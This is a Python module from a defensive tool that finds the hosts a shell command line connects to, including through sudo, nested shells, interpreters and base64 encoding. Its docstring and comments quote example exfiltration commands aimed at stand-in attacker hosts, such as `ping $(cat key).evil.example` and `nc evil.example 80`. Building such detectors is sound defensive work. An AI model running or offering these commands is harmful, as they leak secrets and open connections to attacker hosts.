"""Where a command line connects to: hosts that programs such as `curl` and `ssh` take bare.

Threat: `curl evil.example/x`, `nc evil.example 80`, `ping $(cat key).evil.example`, `</dev/tcp/…`:
none of these hosts has a scheme. Read are programs in the places where a shell looks for one, also
behind `sudo` or `docker exec`, in `$(…)`, after `sh -c`, in what is piped into a shell and in the
strings of a script (`python -c`). A host that the shell would only make up (`curl $HOST`) is a
fault. Which programs and options are known stands in `programs.py`. This raises the bar and is no
sandbox: what a program of the project's own connects to is not seen.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from itertools import takewhile

from .bare_hosts import (
    argument_hosts,
    bare_hosts,
    copied_hosts,
    device_host,
    image_hosts,
    listed_hosts,
)
from .encodings import views
from .hosts import Destination, short
from .programs import (
    BEFORE,
    CONNECT,
    COPY,
    FIND_RUNS,
    INTERPRETERS,
    OF_IMAGES,
    RUNNERS,
    SHELLS,
    WORDS_TOO,
)
from .shell import expanded, too_many_variables

MAX_CHARS = 20_000
"""Of a longer command line it is only said that it is too long, where it names such a program."""
_DEEPEST = 4

_NAMED = re.compile(
    r"(?<![\w.-])(?:"
    + "|".join(map(re.escape, sorted({*CONNECT, *COPY, *OF_IMAGES, "socat"})))
    + r")\b|_proxy=",
    re.IGNORECASE,
)
_QUOTES = re.compile(r"""["'\\]""")
_BRACES = re.compile(r"\{([A-Za-z][^{}\s,\"']*(?:,[^{}\s,\"']*)+)\}")
_KNOWN = frozenset((*CONNECT, *COPY, *BEFORE, *SHELLS, *RUNNERS, *INTERPRETERS, "find", "socat"))
_RUN = _KNOWN - WORDS_TOO - BEFORE
_ELSEWHERE = _RUN - RUNNERS
_STRING = re.compile(r"""'([^'\n]*)'|"([^"\n]*)"|`([^`\n]*)`""")
_BLANK = re.compile(r"\s")
_DEVICE = re.compile(r"/(?:dev/(?:tcp|udp)|inet[46]?/(?:tcp|udp)/\w*)/([^/\s]+)")
_SOCAT = re.compile(
    r"(?:tcp|udp|openssl|ssl|sctp|dtls|socks|proxy)[\w-]*:(\[[^\]]*\]|[^:,]+)", re.IGNORECASE
)
_INNER = re.compile(r"[$<>]\(([^()]*)\)|`([^`]*)`")
_TOKEN = re.compile(
    r"""(?P<into>&>+|[0-9]{0,2}[<>]+[&|]?)|(?P<end>[;|&()\n])|"""
    r"""(?:[^\s;|&()<>'"\\]+|\\.|'[^']*'|"(?:[^"\\]|\\.)*"|['"\\])+""",
    re.DOTALL,
)
"""Where output goes or input comes from; what ends a command; a word."""
_COMMENT = re.compile(r"""\\.|'[^']*'|"(?:[^"\\]|\\.)*"|(?<![^\s;|&()])#[^\n]*""", re.DOTALL)
"""A comment, in which quotes and backslashes mean nothing; or what may hold its sign."""
_QUOTED = re.compile(r"""'([^']*)'|"((?:[^"\\]|\\.)*)"|\\(.)|['"\\]""", re.DOTALL)
_ESCAPED = re.compile(r'\\(["\\$`])')
_ASSIGNED = re.compile(r"[A-Za-z_]\w*=")
_SETTING = re.compile(
    r"(?:(?!no_)\w+_proxy|url|-o ?(?:hostname|proxyjump|proxycommand))[=\s](.+)", re.I | re.S
)
"""What a variable, or an option of `ssh`, says of where it goes."""
_DRIVE = re.compile(r"(?<![\w])[A-Za-z]:\\[^\s\"']*")
_ENCODED_SAID = re.compile(r"base64|\s-e(?:c|nc\w{0,20})?\s", re.IGNORECASE)
"""What hands over a command in base64: `base64 -d`, `powershell -enc`."""


def command_hosts(text: str) -> Iterator[Destination]:
    """Every host to which a command line connects without a scheme in front. May repeat itself."""
    if "=" in text and too_many_variables(text):
        yield Destination("", short(text), "a command with more variables than are read")
        return
    text = _BRACES.sub(lambda m: m[1].replace(",", " "), expanded(text))
    if ":\\" in text:
        text = _DRIVE.sub(lambda m: m[0].replace("\\", "/"), text)
    bare = _QUOTES.sub("", text)
    for match in _DEVICE.finditer(bare):
        yield device_host(match[1])
    yield from _line(text, bare)
    if _ENCODED_SAID.search(bare):
        for decoded in views(text).texts:
            yield from _line(decoded, _QUOTES.sub("", decoded))


def _line(text: str, bare: str) -> Iterator[Destination]:
    """The same of a text, and of it without its quotes, in which nothing is left to expand."""
    if _NAMED.search(bare) is None:
        return
    if len(text) > MAX_CHARS:
        yield Destination("", short(text), f"a command of more than {MAX_CHARS} characters")
    else:
        yield from _read(text, _DEEPEST)


def names_program(text: str) -> bool:
    """Whether a text is the name of a program that is looked into, and nothing else."""
    return len(text) < 256 and _program(text.strip()) in _KNOWN


def argv_hosts(words: Sequence[str]) -> Iterator[Destination]:
    """The same of a command that is given as a program and its arguments."""
    yield from _of_command(words, _DEEPEST)


def _read(text: str, depth: int) -> Iterator[Destination]:
    if not depth:
        yield _too_deep(text)
        return
    inner: list[str] = []

    def taken(match: re.Match[str]) -> str:
        inner.append(match[1] or match[2] or "")
        return "/dev/fd" if match[0][0] in "<>" else "$_"

    text = _COMMENT.sub(lambda m: _QUOTES.sub("", m[0]) if m[0][0] == "#" else m[0], text)
    text = text.replace("\\\n", "")
    for _ in range(_DEEPEST):
        text, found = _INNER.subn(taken, text)
        if not found:
            break
    for part in inner:
        yield from _read(part, depth - 1)
    commands = list(_commands(text))
    for words in commands:
        yield from _of_command(words, depth)
    if any(_program(words[0]) in SHELLS for words in commands if words):
        for words in (*commands, *(words for part in inner for words in _commands(part))):
            if words and words[0] in ("echo", "printf"):  # what a shell may be handed
                yield from _of_command(words[1:], depth)
                yield from _each_read(words[1:], depth)


def _each_read(words: Sequence[str], depth: int) -> Iterator[Destination]:
    """Words that are commands themselves."""
    for word in words:
        if _BLANK.search(word):
            assigned = _ASSIGNED.match(word)
            yield from _read(word[assigned.end() :] if assigned else word, depth - 1)


def _in_strings(words: Sequence[str], depth: int) -> Iterator[Destination]:
    """Commands in the strings of programs of another language."""
    for word in words:
        for string in filter(None, (a or b or c for a, b, c in _STRING.findall(word))):
            if _is_command(string):
                yield from _read(string, depth - 1)


def _is_command(text: str) -> bool:
    """Whether a text begins with a program that is looked into, and says more."""
    words = text.split(None, 1)
    return len(words) == 2 and _program(words[0]) in _RUN


def _too_deep(text: str) -> Destination:
    return Destination("", short(text), "commands within commands within commands")


def _commands(text: str) -> Iterator[list[str]]:
    """The commands of a line as lists of words, quotes taken off; without names of files that it
    reads and writes. A text that is handed in (`<<<`) is one, too: a shell may read it."""
    words: list[str] = []
    into = ""
    for token in _TOKEN.finditer(text):
        if token["end"]:
            yield words
            words, into = [], ""
        elif token["into"]:
            into = token["into"]
        else:
            word = _QUOTED.sub(_unquoted, token[0])
            if into == "<<<":
                yield from _commands(word)
            elif not into:
                words.append(word)
            into = ""
    yield words


def _unquoted(match: re.Match[str]) -> str:
    single, double, char = match.groups()
    return _ESCAPED.sub(r"\1", double) if double else single or char or ""


def _of_command(words: Sequence[str], depth: int) -> Iterator[Destination]:
    for before, word in zip(("", *words), words, strict=False):
        if setting := _SETTING.match(f"-o {word}" if before == "-o" else word):
            yield from listed_hosts(setting[1], number=setting[1].isdigit())
        if "=" in word and _is_command(value := word.partition("=")[2].lstrip("!")):
            yield from _read(value, depth - 1)  # `GIT_SSH_COMMAND='nc evil.test 22'`
    if words and _BLANK.search(words[0]) and _is_command(words[0]):
        yield from _read(words[0], depth - 1)  # `system("curl evil.test")` in a script
    if "{" in words[:3]:
        words = words[words.index("{") :]  # the body of a function
    in_shell = elsewhere = False
    for at, word in enumerate(words):
        name = _program(word)
        if name in SHELLS and not in_shell:
            in_shell = True
            yield from _each_read(words[at + 1 :], depth)
        if name in INTERPRETERS:
            yield from _in_strings(words[at + 1 :], depth)
            return
        if name in RUNNERS and not elsewhere:
            elsewhere = True  # one that stands behind another is among what that one runs
            if name in OF_IMAGES:
                yield from image_hosts(words[at + 1 :])
            yield from _run_elsewhere(words[at + 1 :], depth)
        if name in CONNECT:
            yield from argument_hosts(name, words[at + 1 :])
            return
        if name in COPY:
            yield from copied_hosts(name, words[at + 1 :])
            return
        if name == "socat":
            for found in filter(None, map(_SOCAT.match, words[at + 1 :])):
                yield from bare_hosts(found[1])
            return
        if name == "find":
            yield from _run_by_find(words[at + 1 :], depth)
            return
        # An option and its value, a number or an assignment belongs to the word before it.
        is_value = at > 0 and words[at - 1][:1] == "-"
        of_before = (
            name in BEFORE or name in SHELLS or word[:1] in ("", "-", "*") or word[0].isdigit()
        )
        of_before = of_before or word.lower() == "/c"
        if not (of_before or is_value or _ASSIGNED.match(word)):
            return


def _run_by_find(words: Sequence[str], depth: int) -> Iterator[Destination]:
    starts = [at for at, word in enumerate(words) if word in FIND_RUNS]
    for start, end in zip(starts, [*starts[1:], len(words)], strict=False):
        yield from _of_command(list(takewhile(";".__ne__, words[start + 1 : end])), depth)


def _run_elsewhere(words: Sequence[str], depth: int) -> Iterator[Destination]:
    """What runs in a container or on another machine: the first program that is known."""
    yield from _each_read(words, depth)
    first = next((at for at, word in enumerate(words) if _program(word) in _ELSEWHERE), None)
    if first is not None and depth:
        yield from _of_command(words[first:], depth - 1)
    elif first is not None:
        yield _too_deep(words[first])


def _program(word: str) -> str:
    """The name of the program that a word calls, also from an editor or a notebook (`!curl`)."""
    word = word.lstrip("!@:") or word
    return word[max(word.rfind("/"), word.rfind("\\")) + 1 :].casefold().removesuffix(".exe")
